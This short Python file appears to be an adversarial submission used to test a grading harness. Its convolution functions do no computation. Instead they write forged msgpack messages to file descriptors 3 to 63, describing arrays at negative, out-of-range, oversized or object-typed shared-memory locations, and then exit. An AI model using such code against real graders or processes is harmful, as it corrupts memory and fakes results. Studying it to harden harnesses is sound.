"""Answers with arrays that lie before, beyond and all over the shared memory, a million times.

As: convolution.py
Earns: 1.7
"""

import os
import struct

from msgspec import msgpack

RESULTS = 64 * 2**20


def send(*places):
    arrays = [
        msgpack.Ext(7, msgpack.encode([dtype, shape, None, at])) for dtype, shape, at in places
    ]
    for number in range(1, 20):
        body = msgpack.encode([1, None, [number, "value", [1, None, arrays]]])
        for descriptor in range(3, 64):
            try:
                os.write(descriptor, struct.pack("<Q", len(body)) + body)
            except OSError:
                pass
    os._exit(0)


def conv_output_size(size, kernel_size, stride=1, padding=0):
    send(("<f8", [4], -4096))


def conv2d_forward(x, w, b, stride=1, padding=0):
    send(("<f8", [2**20], RESULTS - 8))


def im2col(x, kernel_size, stride=1, padding=0):
    send(*[("|u1", [RESULTS], 0)] * 10_000)


def col2im(cols, x_shape, kernel_size, stride=1, padding=0):
    send(("<f8", [2**62, 2**62], 0))


def max_pool2d_forward(x, kernel_size, stride=None, padding=0):
    send(("|O", [8], 0))
